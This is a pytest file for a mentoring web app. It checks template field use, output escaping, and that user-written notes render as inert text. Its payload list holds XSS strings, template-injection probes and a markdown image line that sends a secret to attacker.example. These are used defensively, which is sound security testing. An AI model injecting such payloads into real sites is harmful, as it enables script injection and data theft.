"""Templates mention only what their page declares, and what people write stays text."""

import json
import pathlib
import re
from dataclasses import fields
from datetime import date
from html.parser import HTMLParser
from typing import cast

import pytest
from jinja2 import meta, nodes
from starlette.testclient import TestClient

from coach.shipped import shipped
from coach.storage import tables
from coach.web import pages
from coach.web.problems import ErrorPage
from coach.web.rendering import Page, day, environment, static
from tests.web.conftest import House

ROOT = pathlib.Path(__file__).resolve().parents[2]
GLOBALS = set(environment().globals)
TEMPLATES = sorted(environment().list_templates())
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![a](https://attacker.example/p?d=SECRET)",
    "[click](javascript:alert(1))",
    "{{ 7 * 7 }} {% raw %} {x.__class__} ${7*7}",
    "</textarea><script>alert(1)</script>",
    "event: done\ndata: {}\n\n",
    "<base href=https://attacker.example/>",
]
TAGS = set(
    "html head meta title link body a header div svg path nav ul li form span button main footer p "
    "section h1 h2 h3 figure figcaption blockquote details summary ol rect input label textarea "
    "fieldset legend strong dl dt dd mark select option script article".split()
)


def declared() -> dict[str, type[Page]]:
    """Every page by its template; making a dataclass with slots leaves the unmade class behind."""
    assert pages.pages.routes
    known: list[type[Page]] = [Page, *Page.__subclasses__(), ErrorPage]
    return {page.template: page for page in known}


def mentioned(template: str) -> set[str]:
    """The names that a template takes from its page."""
    env = environment()
    assert env.loader is not None
    tree = env.parse(env.loader.get_source(env, template)[0])
    own = {name for node in tree.find_all(nodes.FromImport) for name in node.names}
    own |= {node.name for node in tree.find_all(nodes.Macro)}
    own |= {getattr(node.target, "name", "") for node in tree.find_all(nodes.Assign)}
    return meta.find_undeclared_variables(tree) - GLOBALS - own


@pytest.mark.parametrize("template", TEMPLATES)
def test_every_template_mentions_only_what_its_page_offers(template: str) -> None:
    if pathlib.PurePath(template).name.startswith("_"):
        assert mentioned(template) == set()  # macros take what they need as arguments
        return
    page = declared()[template]
    offered = {field.name for field in fields(page)}
    assert mentioned(template) <= offered
    inherited = {field.name for field in fields(Page)}
    assert offered - mentioned(template) <= inherited


def test_every_page_has_its_template() -> None:
    assert set(declared()) == {name for name in TEMPLATES if "/_" not in name}


@pytest.mark.parametrize("folder", ["coach/web", "coach/rendering"])
def test_nothing_slips_past_the_escaping(folder: str) -> None:
    loopholes = re.compile(r"\|\s*safe\b|\bMarkup\(|innerHTML|autoescape\s+false|outerHTML")
    texts = {
        path: path.read_text(encoding="utf-8")
        for path in (ROOT / folder).rglob("*")
        if path.suffix in {".py", ".html", ".js", ".css", ".svg"}
    }
    assert [str(path) for path, text in texts.items() if loopholes.search(text)] == []


def test_no_page_and_no_sheet_names_another_host() -> None:
    for folder in (shipped("templates"), shipped("static")):
        for path in folder.rglob("*.*"):
            text = path.read_text(encoding="utf-8").replace("http://www.w3.org/2000/svg", "")
            assert not re.search(r"https?://|url\(|@import|\sstyle=", text), path


class Reader(HTMLParser):
    """Collects what a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: set[str] = set()
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.handlers += [name] if name.startswith("on") or name == "style" else []
            if name in ("href", "src", "action") and value:
                self.links.add(value)


def check_harmless(text: str) -> None:
    """Fail when a page holds a tag, a handler or an address that is not ours."""
    reader = Reader()
    reader.feed(text)
    assert reader.tags <= TAGS
    assert reader.handlers == []
    assert [link for link in reader.links if not re.match(r"/(?!/)|#", link)] == []
    assert text.count("<script") == 1


def write_everywhere(house: House, text: str) -> str:
    """Put this text wherever people write on a session, and give the session's address."""
    client = house.as_("mentor")
    planned = {"date": "2027-03-01", "minutes": 45, "wish": text}
    made = client.post(f"/api/v1/pairs/{house.seeded.pair_id}/sessions", json=planned).json()
    path = f"/api/v1/sessions/{made['id']}"
    client.post(f"{path}/notes", json={"text": text, "visibility": "pair"})
    promise = {"owner": "mentee", "text": text[:300], "due": text[:300]}
    client.post(f"{path}/commitments", json=promise)
    client.post(f"{path}/agenda")
    step = {"block_id": "b1", "step": 0, "text": text}
    client.patch(f"{path}/agenda", json=step, headers={"if-match": '"1"'})
    return f"/sessions/{made['id']}"


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_people_write_stays_text(payload: str, house: House, mentor: TestClient) -> None:
    page = mentor.get(write_everywhere(house, payload)).text
    check_harmless(page)
    assert "49" not in re.sub(r"[\da-f]{8}-[\da-f-]+|\d{3,}|v=\w+", "", page) or "7*7" in page


@pytest.mark.shared_data
def test_no_payload_of_the_collections_becomes_markup(
    house: House, mentor: TestClient, shared_data: pathlib.Path
) -> None:
    security = shared_data / "security"
    found = []
    for path in ("markdown_exfil_xss/payloads.jsonl", "dompurify_fixtures/fixtures.jsonl"):
        for line in (security / path).read_text(encoding="utf-8").strip().split("\n"):
            found.append(json.loads(line)["payload"])
    notes = f"/api/v1/sessions/{house.seeded.session_id}/notes"
    kept = [
        mentor.post(notes, json={"text": text, "visibility": "pair"}).status_code for text in found
    ]
    assert kept.count(201) > 200
    check_harmless(mentor.get(f"/sessions/{house.seeded.session_id}").text)


def test_hostile_names_stay_text(house: House, admin: TestClient) -> None:
    name = PAYLOADS[0]
    answer = admin.post("/admin/people", data={"name": name})
    assert "&lt;script&gt;" in answer.text
    assert name not in answer.text


def test_days_are_said_as_people_say_them() -> None:
    assert day(date(2026, 12, 7)) == "Monday, 7 December 2026"


def test_a_file_s_address_changes_with_its_content() -> None:
    assert re.fullmatch(r"/static/base\.css\?v=[0-9a-f]{10}", static("base.css"))


@pytest.fixture
def german(house: House) -> None:
    """The pair speaks German."""
    with house.app.state.front.resources.transaction() as db:
        pair = db.get_one(tables.Pair, house.seeded.pair_id)
        agreed = cast(dict[str, object], pair.profile["constraints"])
        pair.profile = {**pair.profile, "constraints": {**agreed, "language": "de"}}


@pytest.mark.usefixtures("german")
def test_a_draft_in_another_language_is_marked_so_and_its_quotations_are_not(
    house: House, mentor: TestClient
) -> None:
    assert mentor.post(f"/api/v1/sessions/{house.seeded.session_id}/agenda").status_code == 201
    page = mentor.get(f"/sessions/{house.seeded.session_id}").text
    assert '<p class="purpose" lang="de">' in page
    assert '<p class="step-text" lang="de">' in page
    assert '<blockquote class="quote">' in page
    assert '<html lang="en">' in page


@pytest.mark.usefixtures("german")
def test_where_to_find_help_is_said_in_the_language_of_the_pair(
    house: House, mentee: TestClient
) -> None:
    path = f"/sessions/{house.seeded.session_id}"
    said = {"text": "I want to end my life.", "visibility": "mine"}
    assert mentee.post(f"/api/v1{path}/notes", json=said).status_code == 201
    assert '<p lang="de">Wenn jemand von euch eine schwere Zeit durchmacht' in mentee.get(path).text
